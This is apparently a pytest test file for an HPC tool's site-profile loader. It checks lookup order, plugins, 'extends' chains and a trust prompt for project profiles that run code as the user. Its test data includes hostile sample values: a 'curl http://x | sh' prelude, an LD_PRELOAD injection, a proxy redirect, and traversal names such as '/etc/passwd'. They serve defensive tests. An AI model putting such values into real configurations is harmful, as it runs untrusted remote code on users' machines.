"""Profiles of five places: the first that has a name counts, and may extend the next one below."""

from __future__ import annotations

import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from hpcml.errors import ProfileError, UntrustedError
from hpcml.sites import layers as layers_module
from hpcml.sites import load_site, profile_of, read_site, site_names, wrong_with
from hpcml.sites.profile import Partition, Site
from hpcml.sites.trust import FACTS, OF_PARTITIONS, acting, trust
from tests.cli.calling import answering, call

WHOLE = """\
scheduler: process
transport: local
partitions:
  p: {nodes: 1, time: 1h, node: {cpus: 1, memory: 1 GiB}}
"""


def write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.yaml"
    path.write_text(text)
    return path


@pytest.fixture
def yours(home: Path) -> Path:
    return home / "config" / "hpcml" / "sites"


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A git repository, in a folder of which one stands."""
    deep = tmp_path / "repository" / "src" / "deep"
    deep.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", tmp_path / "repository"], check=True)
    monkeypatch.chdir(deep)
    return tmp_path / "repository"


def forget() -> None:
    """What a process knows of the plugins that are installed."""
    layers_module._plugins.cache_clear()
    layers_module._layers.cache_clear()


@pytest.fixture
def plugin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The folder of an installed package that offers profiles."""
    package = tmp_path / "installed" / "kits_sites"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    told = tmp_path / "installed" / "kits_sites-1.dist-info"
    told.mkdir()
    (told / "METADATA").write_text("Metadata-Version: 2.1\nName: kits_sites\nVersion: 1\n")
    (told / "entry_points.txt").write_text("[hpcml.sites]\nkit = kits_sites\n")
    monkeypatch.syspath_prepend(package.parent)
    forget()
    monkeypatch.delitem(sys.modules, package.name, raising=False)
    yield package
    forget()


def test_the_first_place_that_has_a_name_counts(
    repository: Path, plugin: Path, yours: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    one, two = tmp_path / "one", tmp_path / "two"
    monkeypatch.setenv("HPCML_SITE_PATH", f"{one}:{two}:{tmp_path / 'nowhere'}:")
    places = [one, two, repository / "site-configs", yours, plugin]
    for place in reversed(places):
        path = write(place, "local", f"name: local\ndescription: in {place}\n{WHOLE}")
        assert str(profile_of("local")) == str(path)
        assert load_site("local").description == f"in {place}"


def test_a_plugin_is_found_once_it_is_installed_and_until_it_is_removed(plugin: Path) -> None:
    write(plugin, "of-a-kit", f"name: of-a-kit\n{WHOLE}")
    told = plugin.parent / "kits_sites-1.dist-info"
    for _ in range(2):
        forget()
        assert "of-a-kit" in site_names()
        told.rename(plugin.parent / "removed")
        forget()
        assert "of-a-kit" not in site_names()
        (plugin.parent / "removed").rename(told)


def test_a_profile_extends_the_one_of_its_own_name_below_it(
    repository: Path, yours: Path, plugin: Path
) -> None:
    write(repository / "site-configs", "local", "extends: local\nmax_array: 3\n")
    write(yours, "local", "extends: local\nkill_wait: 3s\nmax_array: 2\n")
    write(plugin, "local", "extends: local\ndescription: of a plugin\n")

    site = load_site("local")

    assert (site.max_array, site.kill_wait, site.description) == (3, "3s", "of a plugin")
    assert site.workspace.endswith("hpcml/local")


def test_a_profile_of_its_own_name_with_none_below_it_is_told_so(yours: Path) -> None:
    path = write(yours, "mine", "extends: mine\n")
    with pytest.raises(ProfileError, match=f"{path}, line 1, column 1, key extends: .* below it"):
        load_site("mine")


def test_places_that_extend_each_other_in_a_circle_are_refused(
    repository: Path, yours: Path
) -> None:
    write(repository / "site-configs", "a", "extends: b\n")
    write(yours, "b", "extends: a\n")
    with pytest.raises(ProfileError, match="extends itself by way of a → b"):
        load_site("a")


def test_without_a_repository_the_folder_itself_is_the_project(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "here" / "below"
    write(tmp_path / "here" / "site-configs", "above", f"name: above\n{WHOLE}")
    write(here / "site-configs", "mine", f"name: mine\n{WHOLE}")
    monkeypatch.chdir(here)
    assert "mine" in site_names() and "above" not in site_names()


def test_a_folder_of_the_site_path_may_be_meant_from_where_one_stands(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HPCML_SITE_PATH", "profiles")
    for place in ("one", "two"):
        write(tmp_path / place / "profiles", place, f"name: {place}\n{WHOLE}")
        monkeypatch.chdir(tmp_path / place)
        assert load_site(place).name == place


def test_a_projects_folder_in_the_site_path_is_asked_for_and_extends_what_is_below_it(
    repository: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    theirs = repository / "site-configs"
    write(theirs, "local", "extends: local\nmax_array: 7\n")
    write(theirs, "acting", "extends: local\nprelude: [a]\n")
    monkeypatch.setenv("HPCML_SITE_PATH", str(theirs))
    assert load_site("local").max_array == 7
    with pytest.raises(UntrustedError):
        load_site("acting")


def test_a_folder_that_was_removed_is_no_project(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    assert load_site("local").name == "local"


def test_a_plugin_that_cannot_be_imported_harms_no_other_site(plugin: Path) -> None:
    (plugin / "__init__.py").write_text("raise RuntimeError('broken')")
    with pytest.warns(UserWarning, match="profiles of the plugin kit: broken"):
        assert load_site("local").name == "local"


def test_what_is_only_there_to_be_extended_is_no_site_and_needs_no_partitions(yours: Path) -> None:
    write(yours, "_centre", "cost_unit: core-hours\nscheduler: process\n")
    write(yours, "mine", f"extends: _centre\n{WHOLE}")

    assert load_site("mine").cost_unit == "core-hours"
    assert "_centre" not in site_names() and "_centre" in site_names(bases=True)
    with pytest.raises(ProfileError, match="only there to be extended"):
        load_site("_centre")
    assert wrong_with("_centre") == []


@pytest.mark.parametrize(
    "name", ["../local", "/etc/passwd", "a/b", ".hidden", "..", "a\\0b", "", "größe", "-rf"]
)
def test_what_is_extended_is_a_name_and_no_path(name: str, yours: Path) -> None:
    path = write(yours, "mine", f'extends: "{name}"\n{WHOLE}')
    write(yours.parent, "local", f"name: local\n{WHOLE}")
    with pytest.raises(ProfileError, match=f"{path}, line 1, column") as caught:
        load_site("mine")
    assert "no name" in str(caught.value) or "U+0000" in str(caught.value)


# --- what runs as you ---------------------------------------------------------------------

ACTING = {
    "prelude": "prelude: ['curl http://x | sh']",
    "modules": "modules: [evil]",
    "environment": "environment: {https_proxy: 'http://x'}",
    "agent_python": "agent_python: /tmp/python",
    "ssh": "ssh: {host: elsewhere}",
    "workspace": "workspace: /tmp/everybodys",
    "partitions.p.options": "partitions: {p: {options: {wrap: x}}}",
    "partitions.p.environment": "partitions: {p: {value: {environment: {LD_PRELOAD: x}}}}",
}


@pytest.mark.parametrize("key", ACTING)
def test_a_project_that_acts_as_the_user_is_asked_for_by_key_and_value(
    key: str, repository: Path, home: Path
) -> None:
    path = write(repository / "site-configs", "mine", f"extends: local\n{ACTING[key]}\n")
    with pytest.raises(UntrustedError) as caught:
        load_site("mine")
    assert str(path) in str(caught.value) and f"    {key}: " in str(caught.value)
    assert "hpcml sites trust mine" in caught.value.advice


def test_facts_of_a_project_are_taken_without_a_question(repository: Path, home: Path) -> None:
    facts = "max_array: 7\npartitions: {local: {time: 2h, node: {cpus: 1}}}\n"
    write(repository / "site-configs", "mine", f"extends: local\n{facts}")
    assert load_site("mine").max_array == 7


def test_every_key_that_needs_no_agreement_is_one_of_the_model() -> None:
    assert set(Site.__dataclass_fields__) >= FACTS
    assert set(Partition.__dataclass_fields__) >= OF_PARTITIONS


def test_what_a_project_extends_of_ones_own_is_not_asked_for(repository: Path, yours: Path) -> None:
    write(yours, "mine", f"{WHOLE}name: mine\nprelude: [module purge]\n")
    write(repository / "site-configs", "mine", "extends: mine\nmax_array: 2\n")
    assert load_site("mine").prelude == ["module purge"]


def test_what_a_project_extends_of_its_own_is_asked_for(repository: Path, home: Path) -> None:
    write(repository / "site-configs", "_base", "prelude: [evil]\n")
    write(repository / "site-configs", "mine", f"extends: _base\n{WHOLE}")
    with pytest.raises(UntrustedError, match=r"_base\.yaml"):
        load_site("mine")


def test_who_has_agreed_is_asked_again_when_the_text_changes(repository: Path, home: Path) -> None:
    path = write(repository / "site-configs", "mine", "extends: local\nprelude: [one]\n")
    with pytest.raises(UntrustedError) as caught:
        load_site("mine")
    trust(caught.value.digests)

    assert load_site("mine").prelude == ["one"]
    remembered = home / "state" / "hpcml" / "trusted-profiles"
    assert stat.S_IMODE(remembered.stat().st_mode) == 0o600
    path.write_text(path.read_text().replace("one", "two"))
    with pytest.raises(UntrustedError):
        load_site("mine")
    assert read_site("mine").prelude == ["two"]  # to be looked at


def test_a_profile_of_ones_own_or_of_the_site_path_is_not_asked_for(
    yours: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(yours, "mine", f"name: mine\nprelude: [a]\n{WHOLE}")
    write(tmp_path / "path", "theirs", f"name: theirs\nprelude: [b]\n{WHOLE}")
    monkeypatch.setenv("HPCML_SITE_PATH", str(tmp_path / "path"))
    assert load_site("mine").prelude + load_site("theirs").prelude == ["a", "b"]


def test_in_a_checkout_of_hpcml_its_own_profiles_are_not_asked_for(
    repository: Path, home: Path
) -> None:
    text = Path(str(profile_of("local"))).read_text()
    path = write(repository / "site-configs", "local", text)
    assert str(profile_of("local")) == str(path) and load_site("local").name == "local"
    assert "workspace" in acting({"workspace": "{data}/local"})


def test_on_a_terminal_it_is_asked_and_then_done(repository: Path, home: Path) -> None:
    write(repository / "site-configs", "mine", "extends: local\nenvironment: {A: b}\n")
    refused = call("plan", "--site", "mine", "--", "true")
    assert refused.returncode == 70 and "hpcml sites trust mine" in refused.stderr
    shown = answering("n", "plan", "--site", "mine", "--", "true")
    assert '    environment: {"A": "b"}' in shown and "#!/bin/sh" not in shown
    shown = answering("y", "plan", "--site", "mine", "--", "true")
    assert "Do you agree?" in shown and "#!/bin/sh" in shown
    assert call("plan", "--site", "mine", "--", "true").returncode == 0


def test_in_a_script_one_agrees_by_an_option(repository: Path, home: Path) -> None:
    write(repository / "site-configs", "mine", "extends: local\nenvironment: {A: b}\n")
    assert call("sites", "trust", "mine").returncode == 70
    assert call("sites", "trust", "mine", "--yes").stdout == "mine: agreed\n"
    assert "nothing to agree to" in call("sites", "trust", "mine").stdout


def test_terminal_controls_in_a_profile_never_reach_the_terminal(
    repository: Path, home: Path
) -> None:
    write(repository / "site-configs", "mine", 'extends: local\nprelude: ["\\e[2J"]\n')
    with pytest.raises(ProfileError, match=r"U\+001B") as caught:
        load_site("mine")
    assert "\x1b" not in str(caught.value)


def test_python_is_told_as_the_command_line_is(repository: Path, home: Path) -> None:
    write(repository / "site-configs", "mine", "extends: local\nprelude: [one]\n")
    code = "import hpcml; hpcml.plan(['true'], site='mine')"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert "UntrustedError" in done.stderr and "hpcml sites trust mine" in done.stderr
